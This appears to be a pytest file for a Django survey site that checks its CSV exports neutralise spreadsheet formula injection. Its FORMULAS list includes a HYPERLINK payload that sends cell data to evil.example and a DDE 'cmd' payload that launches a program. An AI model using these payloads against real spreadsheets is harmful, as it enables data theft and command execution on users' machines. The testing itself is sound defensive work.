"""Case 5: no file that a spreadsheet opens begins a formula with what anybody typed, and numbers stay numbers.

`tests/reports/exports/test_files.py` proves it of the published files; here are the files of the office and of the
registrar, and the text of a resident on its whole way.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse

from reports.exports.delimited import safe_cell
from surveys.people.models import User
from surveys.questionnaires import drafting
from surveys.questionnaires.translations import tables
from surveys.waves.fielding import StratumPlan
from surveys.waves.models import Wave
from tests.house.audience import AUDIENCE
from tests.registrar.test_mkcodes import made
from tests.surveys.responses.conftest import document, rating, two

pytestmark = pytest.mark.django_db

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠")
FORMULAS = (
    "=1+1", '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+cmd", "-1+cmd", "@SUM(1)", "＝1+1",
    "＋1+1", "－1+1", "＠SUM(1)", "|calc", "%0A=1",
)  # fmt: skip


def cells(body: bytes) -> Iterator[str]:
    """Yield every cell of a file as a spreadsheet reads it."""
    for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))):
        yield from row


def live(body: bytes) -> list[str]:
    """Return the cells that a spreadsheet would compute."""
    return [
        one
        for one in cells(body)
        if one.startswith(STARTS) and not one.lstrip("+-").replace(".", "").isdigit()
    ]


@pytest.mark.parametrize("text", [*FORMULAS, "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1"])
def test_a_text_in_a_published_file_is_inert(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


def test_the_file_of_codes_is_inert_whatever_a_stratum_is_called(
    a_wave: Callable[..., Wave], ada: User, logged_in: Callable[[User], Client]
) -> None:
    names = [text for text in FORMULAS if '"' not in text]
    strata = tuple(StratumPlan(text[:30], two(text, text), 100) for text in names)
    wave = a_wave(strata=strata, is_public=False)
    client = logged_in(ada)
    for number, text in enumerate(names, start=1):
        answer = client.post(reverse("waves:codes", args=[wave.pk]), {"stratum": str(number), "count": "2"})
        assert answer["Content-Type"].startswith("text/csv")
        assert live(answer.content) == [], text
        assert f"'{text}"[:31] in list(cells(answer.content)), "still legible"


def test_the_table_of_translators_is_inert_and_comes_back_as_it_was(
    ada: User, logged_in: Callable[[User], Client]
) -> None:
    content = document(*(rating(f"q{number}", headline=not number) for number in range(len(FORMULAS))))
    for number, text in enumerate(FORMULAS):
        content["questions"][number]["text"] = two(text, f"{text} ?")
    questionnaire = drafting.create(code="formulas", document=content, by=ada)
    client = logged_in(ada)
    address = reverse("questionnaires:translation-table", args=[questionnaire.pk])
    answer = client.get(address, {"source": "zh-hans", "target": "en"})
    assert answer.status_code == 200
    body = b"".join(answer) if answer.streaming else answer.content
    assert live(body) == []
    texts = {unit.source for unit in tables.read(body).units} | {
        unit.target for unit in tables.read(body).units
    }
    assert texts >= set(FORMULAS)


def test_the_files_of_the_registrar_are_inert_and_numbers_stay_numbers(tmp_path: Path) -> None:
    quoted = ['"' + text.replace('"', '""') + '"' for text in FORMULAS]
    lines = "".join(f"north,,zh,{text},+8613800138000\n" for text in quoted)
    out = made(tmp_path, f"stratum,psu,language,name,phone\n{lines}", "--no-pdf")
    for name in ("codes.csv", "replacements.csv"):
        body = (out / name).read_bytes()
        assert live(body) == [], name
    found = list(cells((out / "codes.csv").read_bytes()))
    assert found.count("+8613800138000") == len(FORMULAS)


def test_every_file_of_the_site_in_commas_is_covered_here_or_beside_the_exports() -> None:
    """Whoever adds a route that ends in .csv comes by here."""
    published = {"dataset", "design", "moments", "correlations", "residuals", "unflagged"}
    known = {f"exports:{whose}-{name}.csv" for whose in ("wave", "department") for name in published}
    assert {name for name in AUDIENCE if name.endswith(("csv", "-table"))} == known | {
        "questionnaires:translation-table"
    }
